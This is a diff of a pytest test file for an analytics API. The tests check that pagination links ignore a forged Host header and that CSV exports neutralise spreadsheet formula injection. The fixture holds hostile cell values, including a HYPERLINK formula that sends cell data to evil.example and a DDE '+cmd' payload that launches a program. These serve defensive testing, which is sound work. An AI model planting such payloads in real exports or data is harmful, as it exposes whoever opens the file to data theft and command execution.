@@ -10,6 +10,7 @@ from sqlalchemy import func, select, update
 
 from floqast.analytics.generate import Profile, generate
 from floqast.analytics.models import ChecklistItem, Entity, Reconciliation
+from floqast.analytics.params import Filters
 from floqast.analytics.records import DATASETS, flatten
 from floqast.extensions import db
 from floqast.models import Role, Service
@@ -71,7 +72,17 @@ def test_the_last_page_has_no_next_and_an_exact_fit_ends_cleanly(client, acme_ke
     total = count(Reconciliation)
     body = pull(client, RECONCILIATIONS, acme_key, **{"page[size]": total}).get_json()
     assert len(body["data"]) == total and "next" not in body["links"]
-    assert body["links"]["self"].startswith("http://localhost/api/v1/analytics/reconciliations")
+    assert body["links"]["self"] == f"/api/v1/analytics/reconciliations?page%5Bsize%5D={total}"
+
+
+def test_links_are_paths_of_this_site_whatever_the_host_header_says(client, acme_key):
+    query = "filter[month]=March&filter[year]=2025&page[size]=5"
+    response = client.get(f"{RECONCILIATIONS}?{query}", headers={"x-api-key": acme_key, "Host": "evil.example"})
+    links = response.get_json()["links"]
+    assert links["self"] == f"{RECONCILIATIONS}?{query}"
+    assert links["next"].startswith(f"{RECONCILIATIONS}?filter[month]=March&filter[year]=2025&page[size]=5&page[cursor]=")
+    assert "evil.example" not in response.get_data(as_text=True)
+    assert client.get(RECONCILIATIONS, headers={"x-api-key": acme_key}).get_json()["links"]["self"] == RECONCILIATIONS
 
 
 def test_rows_added_while_walking_are_never_duplicated_or_skipping_others(client, acme_key, team):
@@ -263,3 +274,66 @@ def test_an_empty_result_is_a_page_without_next_and_a_csv_with_only_the_header(c
     assert pull(client, RECONCILIATIONS, acme_key, **params).get_json()["data"] == []
     text = pull(client, RECONCILIATIONS, acme_key, accept="text/csv", **params).get_data(as_text=True)
     assert text.strip() == ",".join(DATASETS[Service.RECONCILIATIONS].columns)
+
+
+HOSTILE = {
+    "description": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "tags": ["+cmd|' /C calc'!A0", "ok"],
+    "preparer_signed_by": "@SUM(1+1)",
+    "reviewer_assigned_to": "\t=1+1",
+    "account_name": "-2+3",
+    "account_number": "\r=1",
+    "auto_rec_type": "'=quoted already",
+}
+
+
+@pytest.fixture
+def hostile_ids(acme_key):
+    """One checklist item and one reconciliation whose text a spreadsheet would run as formulas."""
+    checklist_id = db.session.scalar(select(func.min(ChecklistItem.id)))
+    reconciliation_id = db.session.scalar(select(func.min(Reconciliation.id)))
+    db.session.execute(update(ChecklistItem).where(ChecklistItem.id == checklist_id).values(
+        description=HOSTILE["description"], tags=HOSTILE["tags"], preparer_signed_by=HOSTILE["preparer_signed_by"]))
+    db.session.execute(update(Reconciliation).where(Reconciliation.id == reconciliation_id).values(
+        account_name=HOSTILE["account_name"], account_number=HOSTILE["account_number"],
+        auto_rec_type=HOSTILE["auto_rec_type"], reviewer_assigned_to=HOSTILE["reviewer_assigned_to"],
+        gl_balance=Decimal("-1234.50"), reconciled_balance=Decimal(0), reconciling_items=Decimal(0)))
+    db.session.execute(update(Entity).where(Entity.name == "North").values(name="@North"))
+    db.session.commit()
+    return {Service.CHECKLISTS: checklist_id, Service.RECONCILIATIONS: reconciliation_id}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(client, acme_key, hostile_ids):
+    checklists = {row["id"]: row for row in csv_rows(pull(client, CHECKLISTS, acme_key, accept="text/csv"))}
+    item = checklists[str(hostile_ids[Service.CHECKLISTS])]
+    assert item["description"] == "'" + HOSTILE["description"]
+    assert item["tags"] == "'+cmd|' /C calc'!A0;ok"
+    assert item["signatures.preparer.signedBy"] == "'@SUM(1+1)"
+    reconciliations = {row["id"]: row for row in csv_rows(pull(client, RECONCILIATIONS, acme_key, accept="text/csv"))}
+    account = reconciliations[str(hostile_ids[Service.RECONCILIATIONS])]
+    assert account["accountName"] == "'-2+3"
+    assert account["accountNumber"] == "'\r=1"
+    assert account["signatures.reviewer.assignedTo"] == "'\t=1+1"
+    assert account["autoRecType"] == "''=quoted already"  # one quote more, which an import takes off again
+    assert {row["entity.name"] for row in reconciliations.values()} == {"'@North", "South"}
+    # Amounts, numbers and dates stay what they are: a negative amount is still a number to the spreadsheet.
+    assert account["glBalance"] == account["difference"] == "-1234.50"
+    assert account["period.month"].isdigit() and account["entity.id"].isdigit()
+
+
+def test_json_keeps_text_as_it_was(client, acme_key, hostile_ids):
+    [item] = pull(client, CHECKLISTS, acme_key, **{"page[size]": 1}).get_json()["data"]
+    assert item["description"] == HOSTILE["description"] and item["tags"] == HOSTILE["tags"]
+    assert item["entity"]["name"] == "@North"
+
+
+@pytest.mark.parametrize("service", list(Service))
+def test_the_fast_csv_rows_are_the_plain_flattened_records(app, acme_key, hostile_ids, team, service):
+    dataset = DATASETS[service]
+    with db.engine.connect() as connection:
+        fast = connection.execute(dataset.query(team.id, Filters(), team.today(), for_csv=True))
+        fast_rows = list(dataset.csv_rows(fast, list(fast.keys()), as_text=True))
+        plain = [dataset.flat_record(row) for row in connection.execute(dataset.query(team.id, Filters(), team.today()))]
+    as_text = [["" if value is None else str(value) for value in row] for row in fast_rows]
+    assert as_text == [list(row.values()) for row in plain]
+    assert any(value.startswith("'") for row in as_text for value in row)
